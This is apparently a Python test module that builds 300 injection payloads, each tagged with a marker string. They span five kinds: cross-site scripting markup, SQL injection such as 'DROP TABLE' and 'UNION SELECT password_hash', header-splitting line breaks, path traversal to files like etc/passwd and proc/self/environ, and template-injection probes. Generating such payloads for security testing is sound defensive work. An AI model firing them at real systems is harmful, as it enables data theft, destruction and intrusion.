"""300 texts that do harm where a text is taken for something else: markup, SQL, header lines, paths, templates."""

from __future__ import annotations

from itertools import product

MARK = "xq7zinjected"
"""In every payload, so that it is found again wherever it went."""
SORTS = 5
EACH = 60

_TAGS = ("script", "img src=x onerror", "svg onload", "iframe src", "body onload", "details open ontoggle")
_CODE = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "import('//x')")
_CLOSED = ("", '">', "'>", "</title>", "-->", "]]>")
_ENDS = ("'", '"', "')", '")', "';", "\\'", "%27", "`")
_SQL = (
    "OR 1=1--", "; DROP TABLE person;--", "UNION SELECT password_hash FROM person--", "AND randomblob(900000000)",
    "; SELECT pg_sleep(9)--", "|| (SELECT name FROM sqlite_master)", "; PRAGMA secure_delete=0;--", "LIKE '%'",
)  # fmt: skip
_BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "\u560d\u560a",
    "\u2028",
    "\x0b",
    "\x85",
    "\\r\\n",
    "\r\n\r\n",
    "\n\n",
    "\0\r\n",
)
_HEADERS = ("X-Injected: {}", "Set-Cookie: sid={}", "Location: //{}", "Content-Length: 0\r\n\r\n{}", "HTTP/1.1 200 {}")
_UP = ("../", "..\\", "%2e%2e%2f", "....//", "..%c0%af", "/", "file:///", "\\\\host\\", "~/", "C:\\")
_PLACES = ("etc/passwd", "keys/master", "service.sqlite3", "proc/self/environ", "blobs/x", "a\0.wav")
_OPEN = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% %s %%}", "%%(%s)s", "{0.%s}", "@(%s)", "*{%s}", "[[%s]]")
_LOOK = (
    "7*7",
    "config",
    "self.__class__",
    "request.app.state.repeat_secret",
    "''.__class__.__mro__",
    "lipsum.__globals__",
)


def payloads() -> dict[str, list[str]]:
    """Sixty of each sort."""
    made = {
        "markup": [f"{shut}<{tag}={code}>{MARK}" for shut, tag, code in product(_CLOSED, _TAGS, _CODE)],
        "sql": [f"{MARK}{end} {words}" for end, words in product(_ENDS, _SQL)],
        "lines": [f"{MARK}{stop}{head.format(MARK)}" for stop, head in product(_BREAKS, _HEADERS)],
        "paths": [f"{up * 5}{place}{MARK}" for up, place in product(_UP, _PLACES)],
        "templates": [f"{MARK}{shape % look}" for shape, look in product(_OPEN, _LOOK)],
    }
    return {sort: sorted(texts)[:EACH] for sort, texts in made.items()}
